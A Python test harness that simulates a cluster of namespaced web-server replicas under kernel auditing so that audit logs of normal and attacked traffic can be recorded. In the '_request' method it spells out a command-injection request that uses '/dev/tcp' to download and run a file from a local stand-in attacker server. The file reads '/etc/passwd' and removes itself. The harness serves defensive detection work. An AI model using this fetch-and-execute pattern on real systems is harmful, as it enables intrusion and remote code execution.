"""A replicated cluster, recorded with the real kernel audit subsystem (tests and bench/).

N replicas of a small forking HTTP server (`sim_server.py`), each in its own network namespace
(``ip netns``) with its own address, its own audit login session and its own node name,
serve scripted client requests; each replica has its own request mix. One auditd records
everything, with the project's rules loaded once per replica and scoped to that replica's
session (``-F sessionid=S``); the log is then split by session into one log per replica, each
line prefixed ``node=NAME`` as that node's own auditd would write it (``name_format = user``).
An attack is a request that makes the server spawn a shell which downloads a file from
another local address (``ATTACKER``, on the root namespace's loopback) and runs it.

    with ClusterSim(replicas=3, workdir=tmp) as sim:    # SimUnavailable: why not
        sim.epoch(requests=20)
        sim.epoch(requests=20, attack=[1])
        logs = sim.finish()                              # per replica, per epoch

Everything is undone when the block ends (servers, rules, auditd, backlog and enabled flag,
namespaces, addresses, files), also on failure. One recording at a time on a machine (the
lock of tests/realaudit/record.py, which also drives the one audit daemon).
"""

from __future__ import annotations

import contextlib
import fcntl
import http.client
import os
import random
import re
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote

from tests.realaudit.record import (
    AUDITD_CONF,
    BACKLOG,
    KEY,
    LOCK_PATH,
    RULES,
    audit_status,
    auditd_available,
)

HERE = Path(__file__).resolve().parent
SERVER = HERE / "sim_server.py"
PORT = 8080
ATTACKER = "10.66.0.1"
PAYLOAD_PORT = 8000
SUBNET = "10.77"  # replica i: 10.77.i.2 in its namespace, 10.77.i.1 on the host side
#: What the attacker's server hands out: recon, then the payload removes itself.
PAYLOAD = b"#!/bin/sh\ncat /etc/passwd > /dev/null\nuname -a > /dev/null\nrm -f \"$0\"\n"
REQUEST_KINDS = ("static", "api", "upload", "report")
PAGES = ("index.html", "style.css", "app.js", "logo.png")

#: Abstraction rules of this cluster: its own network is internal, everything else is not.
RULES_TOML = f'internal = ["{SUBNET}.0.0/16"]\n'


class SimUnavailable(RuntimeError):
    """The simulation cannot run here (the reason says why: root, audit, namespaces)."""


def unavailable() -> str | None:
    """Why the simulation cannot run here, or None."""
    reason = auditd_available()
    if reason:
        return reason
    if shutil.which("ip") is None:
        return "ip (iproute2) not found: network namespaces are needed"
    if shutil.which("gzip") is None:
        return "gzip not found (the servers' report helper)"
    return None


def _run(cmd: list[str], check: bool = True) -> subprocess.CompletedProcess:
    proc = subprocess.run(cmd, capture_output=True, text=True, timeout=30)
    if check and proc.returncode != 0:
        raise SimUnavailable(f"{' '.join(cmd)} failed: {proc.stderr.strip()}")
    return proc


def _set_loginuid() -> None:  # in the child between fork and exec: a new audit session
    with contextlib.suppress(OSError), open("/proc/self/loginuid", "w") as f:
        f.write(str(os.getuid()))


def _wait_for(predicate: Callable[[], bool], timeout: float, interval: float = 0.05) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(interval)
    return predicate()


@dataclass(slots=True)
class Replica:
    index: int
    name: str
    ns: str
    host_if: str
    address: str
    root: Path
    weights: tuple[float, ...]
    page_weights: tuple[float, ...]
    proc: subprocess.Popen | None = None
    session: int | None = None


@dataclass(slots=True)
class SimLogs:
    """The recording: each replica's log (``node=`` lines) and the epoch boundaries (epoch e
    is [bounds[e], bounds[e+1]) in epoch ns); who was attacked in which epoch."""

    logs: dict[str, Path]
    bounds: list[int]
    attacks: dict[int, list[str]] = field(default_factory=dict)
    requests: int = 0

    def epoch_of(self, ts_ns: int) -> int:
        for e in range(len(self.bounds) - 1):
            if ts_ns < self.bounds[e + 1]:
                return e
        return len(self.bounds) - 2


class PayloadServer:
    """The attacker's download server: hands PAYLOAD to whoever connects."""

    def __init__(self, address: str, port: int) -> None:
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind((address, port))
        self.sock.listen()
        self.served = 0
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.sendall(PAYLOAD)
                self.served += 1

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.shutdown(socket.SHUT_RDWR)
        self.sock.close()
        self.thread.join(5)


class ClusterSim:
    """See the module docstring."""

    def __init__(self, replicas: int, workdir: Path, *, seed: int = 0) -> None:
        if not 1 <= replicas <= 200:
            raise ValueError("1 to 200 replicas")
        self.n = replicas
        self.workdir = Path(workdir)
        self.seed = seed
        self.tag = secrets.token_hex(2)
        self.replicas: list[Replica] = []
        self.bounds: list[int] = []
        self.attacks: dict[int, list[str]] = {}
        self.requests = 0
        self._undo: list[tuple[str, Callable[[], object]]] = []
        self._lock: object = None
        self._tmp = Path(tempfile.mkdtemp(prefix="ursprung-wsim-"))
        self._log = self.workdir / "all.audit.log"
        self._payload: PayloadServer | None = None
        self._auditd: subprocess.Popen | None = None

    # ------------------------------------------------------------------ set-up / tear-down

    def __enter__(self) -> ClusterSim:
        try:
            self._start()
        except BaseException:
            self.close()
            raise
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()

    def _on_close(self, what: str, undo: Callable[[], object]) -> None:
        self._undo.append((what, undo))

    def _start(self) -> None:
        reason = unavailable()
        if reason:
            raise SimUnavailable(reason)
        lock = open(LOCK_PATH, "a+")  # noqa: SIM115 - held until close
        fcntl.flock(lock, fcntl.LOCK_EX)
        self._on_close("lock", lock.close)
        reason = auditd_available()  # again, under the lock
        if reason:
            raise SimUnavailable(reason)
        self.workdir.mkdir(parents=True, exist_ok=True)
        self._on_close("temp files", lambda: shutil.rmtree(self._tmp, ignore_errors=True))
        self._network()
        self._payload = PayloadServer(ATTACKER, PAYLOAD_PORT)
        self._on_close("payload server", self._payload.close)
        self._start_auditd()
        self._start_replicas()

    def _network(self) -> None:
        _run(["ip", "addr", "add", f"{ATTACKER}/32", "dev", "lo"])
        self._on_close("attacker address",
                       lambda: _run(["ip", "addr", "del", f"{ATTACKER}/32", "dev", "lo"], False))
        for i in range(self.n):
            rng = random.Random(self.seed * 1000 + i)
            name = f"replica-{i:02d}"
            ns, host_if = f"ws{self.tag}r{i}", f"ws{self.tag}h{i}"
            root = self.workdir / name
            replica = Replica(
                i, name, ns, host_if, f"{SUBNET}.{i}.2", root,
                (rng.uniform(3, 7), rng.uniform(1, 3), rng.uniform(0.5, 1.5),
                 rng.uniform(0.2, 0.8)),
                tuple(rng.uniform(0.5, 2) for _ in PAGES))
            self.replicas.append(replica)
            _run(["ip", "netns", "add", ns])
            self._on_close(f"namespace {ns}", lambda ns=ns: _run(["ip", "netns", "del", ns],
                                                                   False))
            peer = f"ws{self.tag}n{i}"
            _run(["ip", "link", "add", host_if, "type", "veth", "peer", "name", peer])
            _run(["ip", "link", "set", peer, "netns", ns])
            _run(["ip", "addr", "add", f"{SUBNET}.{i}.1/24", "dev", host_if])
            _run(["ip", "link", "set", host_if, "up"])
            inside = ["ip", "netns", "exec", ns]
            _run([*inside, "ip", "addr", "add", f"{replica.address}/24", "dev", peer])
            _run([*inside, "ip", "link", "set", peer, "up"])
            _run([*inside, "ip", "link", "set", "lo", "up"])
            _run([*inside, "ip", "route", "add", "default", "via", f"{SUBNET}.{i}.1"])
            self._prepare_root(root, rng)

    def _prepare_root(self, root: Path, rng: random.Random) -> None:
        if root.exists():
            shutil.rmtree(root)
        for d in ("www", "data", "uploads", "logs"):
            (root / d).mkdir(parents=True)
        for page in PAGES:
            (root / "www" / page).write_bytes(os.urandom(200 + rng.randrange(2000)))
        (root / "data" / "items.json").write_text(
            "[" + ",".join(f'{{"id": {i}, "price": {rng.randrange(100)}}}'
                           for i in range(50)) + "]\n")

    def _start_auditd(self) -> None:
        before = audit_status()
        enabled, backlog = before.get("enabled", "0"), before.get("backlog_limit")
        (self._tmp / "plugins.d").mkdir()
        conf = self._tmp / "auditd.conf"
        conf.write_text(AUDITD_CONF.format(log_file=self._tmp / "audit.log", log_format="RAW",
                                           plugin_dir=self._tmp / "plugins.d"))
        os.chmod(conf, 0o600)
        with open(self._log, "wb") as out, open(self._tmp / "auditd.stderr", "wb") as err:
            self._auditd = subprocess.Popen(["auditd", "-f", "-n", "-s", "nochange", "-c",
                                             str(self._tmp)], stdin=subprocess.DEVNULL,
                                            stdout=out, stderr=err)
        auditd = self._auditd

        def stop() -> None:
            if auditd.poll() is None:
                auditd.send_signal(signal.SIGTERM)
                try:
                    auditd.wait(15)
                except subprocess.TimeoutExpired:
                    auditd.kill()
                    auditd.wait(15)

        def restore() -> None:
            if backlog is not None:
                _run(["auditctl", "-b", backlog], False)
            if enabled in ("0", "1"):
                _run(["auditctl", "-e", enabled], False)

        self._on_close("audit settings", restore)
        self._on_close(f"auditd {auditd.pid}", stop)
        if not _wait_for(lambda: auditd.poll() is not None
                         or audit_status().get("pid") == str(auditd.pid), 15) \
                or auditd.poll() is not None:
            err = (self._tmp / "auditd.stderr").read_text(errors="replace").strip()[-500:]
            raise SimUnavailable(f"auditd did not start: {err}")
        _run(["auditctl", "-b", str(BACKLOG)])
        _run(["auditctl", "-e", "1"])

    def _start_replicas(self) -> None:
        # each replica's root: a bash in a new audit session, in the replica's namespace,
        # waiting for a go line (so that its rules are loaded before the server starts)
        wrapper = 'read -r _ || exit 97; exec "$0" "$@" </dev/null'
        for r in self.replicas:
            r.proc = subprocess.Popen(
                ["ip", "netns", "exec", r.ns, "bash", "-c", wrapper, sys.executable,
                 str(SERVER), str(r.root), r.address, str(PORT)],
                cwd=r.root, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
                stderr=open(self._tmp / f"{r.name}.stderr", "wb"),  # noqa: SIM115
                start_new_session=True, preexec_fn=_set_loginuid)
            self._on_close(f"server of {r.name}", lambda r=r: self._stop_server(r))
        def waiting(r: Replica) -> bool:  # the wrapper bash runs (ip netns exec is done)
            assert r.proc is not None
            with contextlib.suppress(OSError):
                return Path(f"/proc/{r.proc.pid}/comm").read_text().strip() == "bash"
            return False

        for r in self.replicas:
            assert r.proc is not None
            if not _wait_for(lambda r=r: waiting(r) or r.proc.poll() is not None, 10) \
                    or r.proc.poll() is not None:
                raise SimUnavailable(f"{r.name} did not start in its namespace")
            ses = int(Path(f"/proc/{r.proc.pid}/sessionid").read_text())
            if ses == 4294967295:
                raise SimUnavailable("cannot start a new audit session (loginuid immutable)")
            r.session = ses
        rules = self._tmp / "replicas.rules"
        lines = []
        for line in RULES.read_text(encoding="utf-8").splitlines():
            line = line.strip()
            if not line.startswith("-a "):
                continue
            head, _, key = line.rpartition(" -k ")
            lines += [f"{head} -F sessionid={r.session} -k {key}" for r in self.replicas]
        rules.write_text("\n".join(lines) + "\n")
        self._on_close("audit rules", lambda: _run(["auditctl", "-D", "-k", KEY], False))
        _run(["auditctl", "-R", str(rules)])
        for r in self.replicas:
            assert r.proc is not None and r.proc.stdin is not None
            r.proc.stdin.write(b"go\n")
            r.proc.stdin.close()
        for r in self.replicas:
            if not _wait_for(lambda r=r: (r.root / "ready").exists() or r.proc.poll() is not None,
                             30):
                raise SimUnavailable(f"{r.name}'s server did not start")
            if r.proc.poll() is not None:
                err = (self._tmp / f"{r.name}.stderr").read_text(errors="replace")[-500:]
                raise SimUnavailable(f"{r.name}'s server exited: {err}")
        self.bounds.append(time.time_ns() - 5_000_000_000)  # epoch 0 holds the start-up

    def _stop_server(self, r: Replica) -> None:
        if r.proc is None or r.proc.poll() is not None:
            return
        r.proc.send_signal(signal.SIGTERM)
        try:
            r.proc.wait(15)
        except subprocess.TimeoutExpired:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(r.proc.pid, signal.SIGKILL)
            r.proc.wait(5)

    def close(self) -> list[str]:
        """Undo everything, in reverse order; what could not be undone."""
        errors = []
        while self._undo:
            what, undo = self._undo.pop()
            try:
                undo()
            except Exception as exc:
                errors.append(f"{what}: {exc}")
        for leftover in Path("/tmp").glob(f".wsim{self.tag}-*"):
            leftover.unlink(missing_ok=True)
        return errors

    # ------------------------------------------------------------------ the workload

    def _request(self, r: Replica, kind: str, rng: random.Random) -> None:
        conn = http.client.HTTPConnection(r.address, PORT, timeout=30)
        try:
            if kind == "static":
                page = rng.choices(PAGES, r.page_weights)[0]
                conn.request("GET", f"/static/{page}")
            elif kind == "api":
                conn.request("GET", "/api/items")
            elif kind == "upload":
                conn.request("POST", "/upload", body=os.urandom(100 + rng.randrange(900)))
            elif kind == "report":
                conn.request("GET", "/report")
            else:  # attack
                cmd = (f"exec 3<>/dev/tcp/{ATTACKER}/{PAYLOAD_PORT}; "
                       f"cat <&3 > /tmp/.wsim{self.tag}-$$; chmod +x /tmp/.wsim{self.tag}-$$; "
                       f"/tmp/.wsim{self.tag}-$$")
                conn.request("GET", f"/exec?cmd={quote(cmd)}")
            conn.getresponse().read()
        finally:
            conn.close()

    def epoch(self, requests: int, attack: Iterable[int] = ()) -> None:
        """Each replica serves ``requests`` requests of its own mix (those in ``attack``
        also get the exploit, in the middle); then the epoch ends."""
        attacked = set(attack)
        epoch = len(self.bounds) - 1
        errors: list[BaseException] = []

        def drive(r: Replica) -> None:
            rng = random.Random(hash((self.seed, r.index, epoch)) & 0xFFFFFFFF)
            kinds = rng.choices(REQUEST_KINDS, r.weights, k=requests)
            if r.index in attacked:
                kinds.insert(len(kinds) // 2, "attack")
            try:
                for kind in kinds:
                    self._request(r, kind, rng)
            except BaseException as exc:
                errors.append(exc)

        threads = [threading.Thread(target=drive, args=(r,)) for r in self.replicas]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        if errors:
            raise RuntimeError(f"requests failed: {errors[0]!r}")
        self.requests += requests * self.n + len(attacked)
        if attacked:
            self.attacks[epoch] = sorted(self.replicas[i].name for i in attacked)
        time.sleep(0.5)  # children exit after their response: keep them in this epoch
        self.bounds.append(time.time_ns())

    def finish(self) -> SimLogs:
        """Stop the servers, wait until the log has their exits, and split it by replica."""
        for r in self.replicas:
            self._stop_server(r)
        pids = [r.proc.pid for r in self.replicas if r.proc is not None]
        exits = re.compile(rb"syscall=(?:231|252) .* pid=(\d+) ")

        def flushed() -> bool:
            seen = {int(m.group(1)) for m in exits.finditer(self._log.read_bytes())}
            return all(p in seen for p in pids)

        if not _wait_for(flushed, 15, 0.2):
            raise RuntimeError("the servers' exits never reached the audit log")
        self.bounds[-1] = max(self.bounds[-1], time.time_ns())
        sessions = {r.session: r.name for r in self.replicas if r.session is not None}
        logs = split_log(self._log, sessions, self.workdir)
        return SimLogs(logs, list(self.bounds), dict(self.attacks), self.requests)


_SERIAL = re.compile(rb"msg=audit\(\d+\.\d+:(\d+)\)")
_SES = re.compile(rb" ses=(\d+)")


def split_log(path: Path, sessions: dict[int, str], out: Path) -> dict[str, Path]:
    """One log per session's node: every record of an event whose SYSCALL record has that
    ``ses=``, prefixed ``node=NAME`` (records of no replica, such as auditd's own, go)."""
    owner: dict[bytes, str] = {}
    with open(path, "rb") as fh:
        for line in fh:
            if not line.startswith(b"type=SYSCALL"):
                continue
            serial, ses = _SERIAL.search(line), _SES.search(line)
            if serial and ses and int(ses.group(1)) in sessions:
                owner[serial.group(1)] = sessions[int(ses.group(1))]
    files = {name: open(out / f"{name}.audit.log", "wb")  # noqa: SIM115
             for name in sessions.values()}
    try:
        with open(path, "rb") as fh:
            for line in fh:
                serial = _SERIAL.search(line)
                name = owner.get(serial.group(1)) if serial else None
                if name is not None:
                    files[name].write(b"node=" + name.encode() + b" " + line)
    finally:
        for f in files.values():
            f.close()
    return {name: out / f"{name}.audit.log" for name in sessions.values()}
